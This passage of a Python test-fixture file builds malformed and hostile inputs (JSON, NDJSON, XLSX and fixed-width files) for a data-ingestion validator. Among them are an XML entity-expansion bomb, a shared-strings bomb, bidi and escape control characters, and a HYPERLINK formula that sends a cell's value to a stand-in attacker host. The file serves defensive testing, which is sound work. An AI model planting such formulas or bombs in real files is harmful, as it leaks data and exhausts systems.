        Case("json", "garbage_after.json", b'[{"a":1}] garbage', refused("followed by more data")),
        Case("json", "trailing_array.json", b'[{"a":1}]\n[{"a":2}]\n', refused("followed by more data")),
        Case("json", "not_closed.json", b'[{"a":1},{"a":2}', refused("not closed|not valid")),
        Case("json", "object_not_array.json", b'{"a":1}\n{"a":2}\n', refused("array of objects is expected")),
        Case("json", "whitespace.json", b"  \n\t ", refused("whitespace")),
        Case("json", "non_objects.json", b'[1, "x", null, {"a": 1}, [2], true]', ok(6, rejected=5)),
        Case("json", "huge_numbers.json",
             b'[{"a": 1e999999, "b": 123456789012345678901234567890123, "c": -0.0, "d": 1E-99999}]',
             ok(1, check=top_value("b", "123456789012345678901234567890123"))),
        Case("json", "constants.json", b'[{"a": NaN, "b": Infinity, "c": -Infinity}]', ok(1)),
        Case("json", "duplicate_keys.json", b'[{"a": 1, "a": 2}, {"a": 3}]', ok(2)),
        Case("json", "bom.json", codecs.BOM_UTF8 + b'[{"a": 1}]', ok(1)),
        Case("json", "utf16.json", '[{"a": "\u00e9"}]'.encode("utf-16"), ok(1)),
        Case("json", "record_over_limit.json",
             lambda p: streamed(p, iter([b'[{"a": 1}, {"a": "', b"x" * (record_limit + MIB), b'"}]'])),
             refused("larger than|limit"), limit_s=120),
        Case("json", "huge_array_unclosed_string.json",
             lambda p: streamed(p, iter([b'[{"a": "', *fill(b"x", big(4 * MIB))])),
             refused("not valid|not closed|larger than"), limit_s=120),
        Case("json", "many_keys.json",
             ("[" + ",".join(f'{{"k{i}": 1}}' for i in range(5000)) + "]").encode(), refused("columns")),
        Case("json", "one_record_many_keys.ndjson",
             ("{" + ",".join(f'"k{i}": {i}' for i in range(200_000)) + "}\n").encode(), refused("columns")),
        Case("json", "blank_lines.ndjson", b'\n\n{"a": 1}\n   \n\r\n{"a": 2}\n\n', ok(2)),
        Case("json", "non_object_lines.ndjson", b'{"a": 1}\n[1]\n"s"\n42\nnull\n{"a": 2}\nnot json\n',
             ok(7, rejected=5)),
        Case("json", "huge_line.ndjson",
             lambda p: streamed(p, iter([b'{"a": 1}\n{"a": "', *fill(b"x", big(4 * MIB)), b'"}\n{"a": 3}\n'])),
             either(r"line|record|larger|limit", check=rejected_at_least(0)), limit_s=120),
        Case("json", "huge_line_no_newline.ndjson",
             lambda p: streamed(p, iter([b'{"a": 1}\n', *fill(b"x", big(4 * MIB))])),
             either(r"line|record|larger|limit|not valid"), limit_s=120),
        Case("json", "escape_in_key.ndjson", b'{"\\u001b[31mred\\u202e": 1, "id": 2}\n', ok(1)),
    ]


def _xlsx_cases() -> list[Case]:
    def sparse(path: Path) -> None:
        rows = iter([sheet_row(1, ["id", "v"]), sheet_row(2, [1, "a"]), sheet_row(1_048_576, [2, "b"])])
        xlsx(path, [("Sheet1", "A1:XFD1048576", rows)])

    def understated(path: Path) -> None:
        xlsx(path, [("Sheet1", "A1:B2", table_rows(["a", "b", "c"], ([i, f"x{i}", i * 2] for i in range(1000))))])

    def shared_bomb(path: Path) -> None:
        count = many(2_000_000)
        xlsx(path, [("Sheet1", None, table_rows(["v"], iter([[("s", 0)], [("s", 1)]])))],
             shared=(f"<si><t>{'A' * 30}</t></si>" for _ in range(count)), shared_count=count)

    def shared_many(path: Path) -> None:
        count = many(50_000)
        rnd = random.Random(SEED)
        xlsx(path, [("Sheet1", None, table_rows(["v"], ([("s", i)] for i in range(0, count, 10))))],
             shared=(f"<si><t>{rnd.randbytes(12).hex()}</t></si>" for _ in range(count)), shared_count=count)

    def wide_cells(path: Path) -> None:  # one row whose cells sit at the far right: every column in between
        xlsx(path, [("Sheet1", None, iter([sheet_row(1, ["id"]), '<row r="2"><c r="A2"><v>1</v></c>'
                                           '<c r="XFD2"><v>2</v></c></row>']))])

    def entity_bomb(path: Path) -> None:
        laughs = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
            + "]>")
        rows = iter([sheet_row(1, ["v"]), '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'])
        xlsx(path, [("Sheet1", None, rows)])
        # put the DOCTYPE into the sheet's XML
        data = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
        data = data.replace("?><worksheet", "?>" + laughs + "<worksheet", 1)
        members = {n: zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()}
        members["xl/worksheets/sheet1.xml"] = data.encode()
        path.write_bytes(zip_of(list(members.items())))

    def formulas(book: Any) -> None:
        sheet = book.active
        sheet.append(["id", "v", "f"])
        for i in range(1, 6):
            sheet.append([i, i * 2, f"=B{i + 1}*2"])
        sheet.append([6, 1, '=HYPERLINK("http://evil.example/?"&A1,"click")'])

    return [
        Case("xlsx", "dimension_max_sparse.xlsx", sparse, ok(2), limit_s=60),
        Case("xlsx", "dimension_understated.xlsx", understated, ok(1000, check=columns("a", "b", "c"))),
        Case("xlsx", "far_right_cell.xlsx", wide_cells, ok(1, rejected=1)),
        Case("xlsx", "formulas.xlsx", openpyxl_book(formulas), ok(6, check=top_value("f", "'=B2*2"))),
        Case("xlsx", "dates.xlsx", openpyxl_book(_dates), ok(10, check=inferred(day="date", at="datetime"))),
        Case("xlsx", "many_sheets.xlsx", openpyxl_book(_many_sheets), ok(1)),
        Case("xlsx", "shared_strings_bomb.xlsx", shared_bomb, refused(BOMB), limit_s=120),
        Case("xlsx", "shared_strings_many.xlsx", shared_many, ok(many(50_000) // 10), limit_s=120),
        Case("xlsx", "entity_bomb.xlsx", entity_bomb, either(r"workbook|entit")),
        Case("xlsx", "not_a_workbook.xlsx", zip_of([("a.txt", b"hello")]),
             either(r"workbook|zip|exactly|text|no data rows")),
        Case("xlsx", "broken_xml.xlsx", lambda p: xlsx(p, [("Sheet1", None, iter(["<row r='1'><c"]))]),
             refused("workbook")),
        Case("xlsx", "empty_sheet.xlsx", lambda p: xlsx(p, [("Sheet1", None, iter([]))]), refused("empty")),
        Case("xlsx", "renamed.csv", workbook(["id", "v"], [[1, "a"], [2, "b"]]), ok(2)),
        Case("xlsx", "gzipped.xlsx.gz", lambda p: p.write_bytes(gz(_bytes_of(workbook(["id"], [[1], [2]])))),
             ok(2)),
        Case("xlsx", "controls.xlsx",
             workbook(["id", "n\u202eame"], [[1, "\u2066x\u2069"], [2, "_x0007_bell_x001B_[31m"]]), ok(2)),
    ]


def _bytes_of(make: Maker) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "f"
        make(path)
        return path.read_bytes()


def _fixed_cases() -> list[Case]:
    good = b"".join(b"%06d%-4s\n" % (i, b"AB") for i in range(100))
    return [
        Case("fixed", "good.txt", good, ok(100), feed={"format": TRAINS_LAYOUT}),
        Case("fixed", "utf16_surrogate.txt",
             codecs.BOM_UTF16_LE + "000001AB  \n".encode("utf-16-le") + b"\x00\xd8" + "00002AB\n".encode("utf-16-le"),
             refused(r"not valid|surrogate|utf-16"), feed={"format": TRAINS_LAYOUT}),
        Case("fixed", "short_long.txt", b"000001AB\n000002ABCDEFGHIJ\n00\n000004CD\n", ok(4, rejected=2),
             feed={"format": TRAINS_LAYOUT, "thresholds": {"max_rejected_share": 1.0}}),
        Case("fixed", "unit_separator.txt", b"000001AB\n0000\x1f2AB\n000003AB\n", ok(3, rejected=1),
             feed={"format": TRAINS_LAYOUT, "thresholds": {"max_rejected_share": 1.0}}),
        Case("fixed", "huge_line.txt",
             lambda p: streamed(p, iter([b"000001AB\n", *fill(b"9", big(4 * MIB)), b"\n000003AB\n"])),
             either(r"line|record|larger|limit|block", check=rejected_at_least(1)),
             feed={"format": TRAINS_LAYOUT, "thresholds": {"max_rejected_share": 1.0}}, limit_s=120),
        Case("fixed", "invalid_utf8_late.txt", lines_file(b"", 20_000, lambda i: b"%06dAB\n" % i, tail=b"00000\xffX\n"),
             refused("mixes encodings|not valid"), feed={"format": TRAINS_LAYOUT}),
        Case("fixed", "binary.txt", noise(8000), refused("binary|not a text"), feed={"format": TRAINS_LAYOUT}),
    ]


def build() -> list[Case]:
    cases = [*_values_case(), *_archive_cases(), *_binary_cases(), *_header_cases(), *_csv_cases(),
             *_json_cases(), *_xlsx_cases(), *_fixed_cases()]
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    for case in cases:
        if case.feed is None and case.command == "validate":
            raise AssertionError(f"{case.id}: validate needs a feed")
        assert re.fullmatch(r"[A-Za-z0-9_.]+", case.name), case.name
    return cases


CASES = build()
